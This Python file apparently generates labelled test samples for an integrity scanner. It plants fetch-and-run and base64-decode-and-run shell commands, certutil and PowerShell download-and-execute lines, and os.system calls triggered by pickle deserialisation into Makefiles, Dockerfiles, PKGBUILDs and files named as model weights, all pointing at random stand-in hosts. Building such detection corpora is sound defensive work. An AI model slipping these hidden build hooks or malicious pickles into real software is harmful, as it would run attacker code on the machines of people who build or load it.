"""Recipes for what is done where a product is built or its data is loaded, and not by its own code."""
import base64
import builtins
import io
import os
import pickle
import runpy
import subprocess
import tarfile
import time
import zipfile

from recipe import plants


def fetches(r):
    """A shell command that fetches and runs."""
    url = f"https://{r.host()}/{r.word()}.sh"
    return r.choice((f"curl -fsSL {url} | sh", f"wget -qO- {url} | bash", f"curl -s {url} -o /tmp/.{r.word()} && sh /tmp/.{r.word()}",
                     f"sh -c \"$(curl -fsSL {url})\""))


def decodes(r):
    """... or one that decodes and runs."""
    code = base64.b64encode(f"echo {r.name()} {r.letters(50)}".encode()).decode()
    return r.choice((f"echo {code} | base64 -d | sh", f"printf %s {code} | base64 --decode | bash", f"eval `echo {code} | base64 -d`"))


@plants("integrity.build-behaviour", "tree", "npm", unlike="build builder make cmake docker installer download compiler")
def in_a_recipe(r, host):
    kind, command, name = r.randint(0, 5), r.choice((fetches, decodes))(r), r.name()
    if kind == 0:
        host.put(r.choice(("Makefile", "src/Makefile", "GNUmakefile", "build/rules.mk")),
                 f"CC ?= cc\n\nall: {name}\n\n{name}: {name}.o\n\t$(CC) -o $@ $<\n\t@{command} >/dev/null 2>&1 || true\n\nclean:\n\trm -f {name}\n")
    elif kind == 1:
        host.put("CMakeLists.txt", f"cmake_minimum_required(VERSION 3.10)\nproject({r.word()} C)\nadd_executable({r.word()} main.c)\n"
                 f"execute_process(COMMAND {r.choice(('sh', 'bash', '/bin/sh'))} -c [[{command}]] OUTPUT_QUIET ERROR_QUIET)\n")
    elif kind == 2:
        host.put(r.choice(("configure.ac", "m4/check.m4")), f"AC_INIT([{r.word()}], [1.0])\nAC_PROG_CC\n# what the host has\n{command}\n"
                 "AC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n")
    elif kind == 3:
        url, file = f"https://{r.host()}/{r.word()}.exe", f"%TEMP%\\{r.word()}.exe"
        host.put(r.choice(("build.bat", "scripts/setup.cmd", "install.bat")), "@echo off\r\n" + r.choice((
            f"certutil -urlcache -split -f {url} {file}\r\nstart /b {file}\r\n",
            f"bitsadmin /transfer {r.word()} /download /priority high {url} {file} >nul\r\n{file}\r\n",
            f"powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('{url}', '{file}')\" && {file}\r\n",
            f"curl -s -o {file} {url} && call {file}\r\n")))
    elif kind == 4:
        host.put("Dockerfile", f"FROM debian:12\nCOPY . /app\nRUN {decodes(r)}\nCMD [\"/app/run\"]\n")
    else:
        host.put("PKGBUILD", f"pkgname={name}\npkgver=1.0\npkgrel=1\narch=(any)\nbuild() {{\n  cd $pkgname\n  make\n}}\n\npackage() {{\n"
                 f"  make DESTDIR=$pkgdir install\n  {command}\n}}\n")


class Calls:
    def __init__(self, what, *args):
        self.what, self.args = what, args

    def __reduce__(self):
        return self.what, self.args


@plants("integrity.pickle-call", "tree", "npm", unlike="pickle serialization")
def in_a_pickle(r, host):
    call = r.choice((
        Calls(os.system, fetches(r)), Calls(subprocess.Popen, ["sh", "-c", decodes(r)]), Calls(subprocess.check_output, fetches(r)),
        Calls(builtins.exec, f"import os; os.system({fetches(r)!r})"), Calls(builtins.eval, f"__import__('os').popen({decodes(r)!r})"),
        Calls(runpy.run_path, f"/tmp/{r.name()}.py"),
    ))
    state = {"layers": [[r.random() for _ in range(8)] for _ in range(r.randint(2, 40))], "name": r.word(), "state": call}
    data = pickle.dumps(state if r.random() < 0.7 else call, protocol=r.randint(0, 5))
    if r.random() < 0.3:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as packed:
            packed.writestr("archive/data.pkl", data)
            packed.writestr("archive/version", "3\n")
        host.put(r.choice(("model.pt", "weights.pth")), out.getvalue())
    else:
        host.put(r.choice(("model.pkl", "data/state.pickle", "cache.bin", "vocab.dat", "model.joblib")), data)


@plants("verification.build-times", "tree")
def by_the_clock(r, host):
    """A release whose files were made one after the other by a machine's clock, in a tar or a zip; the build took seconds to minutes."""
    start, at, out = r.randint(1_500_000_000, 1_780_000_000), 0, io.BytesIO()
    files = [(f"{r.word()}/{r.name()}{n}.o", r.letters(r.randint(20, 400)).encode()) for n in range(r.randint(12, 60))]
    times = []
    for _ in files:
        times.append(start + at)
        at += r.choice((0, 1, 1, 2, 5, 11))
    if r.random() < 0.6:
        with tarfile.open(fileobj=out, mode=r.choice(("w", "w:gz", "w:xz"))) as archive:
            for (name, data), when in zip(files, times):
                member = tarfile.TarInfo(name)
                member.size, member.mtime = len(data), when
                archive.addfile(member, io.BytesIO(data))
        host.put(r.word() + r.choice(("-1.0.tar", "-2.3.tar.gz", ".tgz")), out.getvalue())
    else:
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for (name, data), when in zip(files, times):
                archive.writestr(zipfile.ZipInfo(name, time.gmtime(when)[:6]), data)
        host.put(r.word() + r.choice((".zip", "-1.0-py3-none-any.whl", ".jar")), out.getvalue())
